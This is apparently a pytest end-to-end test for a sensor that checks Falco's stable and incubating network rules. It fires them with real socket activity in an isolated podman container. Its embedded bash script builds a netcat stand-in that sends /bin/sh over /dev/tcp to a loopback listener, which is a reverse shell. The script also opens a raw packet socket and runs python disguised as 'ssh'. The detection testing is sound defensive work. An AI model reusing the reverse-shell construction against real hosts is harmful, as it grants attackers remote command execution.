"""End to end: network rules of Falco's unmodified stable (and incubating) rules, fired by real
socket activity inside podman containers and seen through the sensor's fd table.

One sensor process serves the module (bpftrace attaches once); one container runs all the
actions in sequence on its own loopback (``--network none``: no traffic leaves the container):

- a netcat stand-in (a bash script named ``nc``: ``nc -e PROG HOST PORT`` connects with bash's
  ``/dev/tcp`` and ``exec``s PROG on the socket, exactly what ``nc -e`` does) connects to a
  Python listener: "Netcat Remote Code Execution in Container" (the exec), "Redirect
  STDOUT/STDIN to Network Connection in Container" (bash's ``dup2(3, 0..2)`` of the TCP
  socket: the fd table knows fd 3 from the socket/connect records);
- ``socket(AF_PACKET, SOCK_RAW)`` (with CAP_NET_RAW): "Packet socket created in container";
- a program whose argv[0] ends in ``ssh`` connects to ``[::1]:443``: "Disallowed SSH
  Connection Non Standard Port" (``outbound``: IPv6 loopback is outside 127.0.0.0/8 and not
  RFC 1918);
- a shell connects to ``[::1]:8080`` (incubating): "System procs network activity".
"""

from __future__ import annotations

import time
from collections.abc import Iterator

import pytest

from support.podman import Podman
from support.sensor import STABLE, Sensor

INCUBATING = STABLE.with_name("falco-incubating_rules.yaml")
NAME = "yamori-net"
RULE_REDIRECT = "Redirect STDOUT/STDIN to Network Connection in Container"

SCRIPT = r"""
set -e
cat > /tmp/nc <<'EOF'
#!/bin/bash
# a netcat stand-in: `nc -e PROG HOST PORT` runs PROG with its stdio on a TCP connection
exec 3<>/dev/tcp/$3/$4
exec $2 <&3 >&3 2>&3
EOF
chmod +x /tmp/nc
cp /usr/bin/python3 /tmp/ssh
python3 - <<'EOF' &
import socket
l = socket.socket()
l.bind(("127.0.0.1", 4444))
l.listen(1)
open("/tmp/ready", "w").close()
c, _ = l.accept()
c.sendall(b"echo pwned; exit\n")
print("listener got", c.recv(100))
EOF
while [ ! -e /tmp/ready ]; do sleep 0.05; done
/tmp/nc -e /bin/sh 127.0.0.1 4444
wait
python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close()'
/tmp/ssh -c '
import socket
l = socket.socket(socket.AF_INET6); l.bind(("::1", 443)); l.listen(1)
s = socket.socket(socket.AF_INET6); s.connect(("::1", 443))
'
python3 -c '
import socket, subprocess
l = socket.socket(socket.AF_INET6); l.bind(("::1", 8080)); l.listen(1)
subprocess.run(["bash", "-c", "exec 3<>/dev/tcp/::1/8080"], check=True)
'
"""


@pytest.fixture(scope="module")
def net_alerts(capture_ready: None, podman: Podman) -> Iterator[Sensor]:
    if not STABLE.exists() or not INCUBATING.exists():
        pytest.skip(f"{STABLE} or {INCUBATING} is not present")
    sensor = Sensor(podman.env, "--rules", str(INCUBATING), "--rule-matching", "all")
    try:
        sensor.wait_ready()
        started = time.monotonic()
        run = podman.run(
            "run", "--rm", "--network", "none", "--cap-add", "NET_RAW", "--name", NAME,
            podman.image, "bash", "-c", SCRIPT, check=False,
        )  # fmt: skip
        print(f"container actions: {time.monotonic() - started:.2f} s\n{run.stdout}{run.stderr}")
        assert run.returncode == 0, run.stderr
        assert "listener got b'pwned" in run.stdout
        yield sensor
    finally:
        print("\n".join(sensor.stop()))


def _fields(sensor: Sensor, rule: str) -> dict[str, object]:
    _, alert = sensor.wait_rule(rule, NAME)
    fields = alert["output_fields"]
    assert isinstance(fields, dict)
    cid = fields["container.id"]
    assert isinstance(cid, str) and len(cid) == 12 and cid != "host"
    assert fields["container.name"] == NAME
    assert alert["source"] == "syscall"
    return fields


def test_netcat_remote_code_execution(net_alerts: Sensor) -> None:
    fields = _fields(net_alerts, "Netcat Remote Code Execution in Container")
    assert fields["proc.name"] == "nc"
    # a script: the new image's argv is the interpreter's (`/bin/bash /tmp/nc -e ...`), as in Falco
    assert str(fields["proc.cmdline"]).endswith(" -e /bin/sh 127.0.0.1 4444")


def test_redirect_stdio_to_network_connection(net_alerts: Sensor) -> None:
    fields = _fields(net_alerts, RULE_REDIRECT)
    assert fields["evt.type"] == "dup2"
    assert fields["fd.type"] == "ipv4" and fields["fd.l4proto"] == "tcp"
    assert fields["fd.sip"] == "127.0.0.1" and fields["fd.rport"] == 4444
    name = fields["fd.name"]
    assert isinstance(name, str) and name.startswith("127.0.0.1:") and name.endswith("->127.0.0.1:4444")
    assert fields["fd.lport"] == int(name.split("->")[0].rsplit(":", 1)[1])
    # bash dup2s the listener's here-document to stdin before python3 opens its socket as that
    # fd number: the kernel-side read of the old fd keeps that from looking like a socket
    redirects = [a["output_fields"] for _, a in net_alerts.seen if a["rule"] == RULE_REDIRECT]
    assert {f["proc.name"] for f in redirects} == {"nc"}, redirects


def test_packet_socket_created(net_alerts: Sensor) -> None:
    fields = _fields(net_alerts, "Packet socket created in container")
    assert fields["evt.type"] == "socket" and fields["proc.name"] == "python3"
    assert "AF_PACKET" in str(fields["evt.args"])


def test_disallowed_ssh_connection_non_standard_port(net_alerts: Sensor) -> None:
    fields = _fields(net_alerts, "Disallowed SSH Connection Non Standard Port")
    assert fields["evt.type"] == "connect" and fields["proc.exepath"] == "/tmp/ssh"
    assert fields["fd.type"] == "ipv6" and fields["fd.l4proto"] == "tcp"
    assert fields["fd.rport"] == 443
    assert str(fields["fd.name"]).endswith("->::1:443")


def test_system_procs_network_activity_incubating(net_alerts: Sensor) -> None:
    fields = _fields(net_alerts, "System procs network activity")
    assert fields["proc.name"] == "bash" and fields["evt.type"] == "connect"
    assert fields["fd.rport"] == 8080 and fields["fd.type"] == "ipv6"
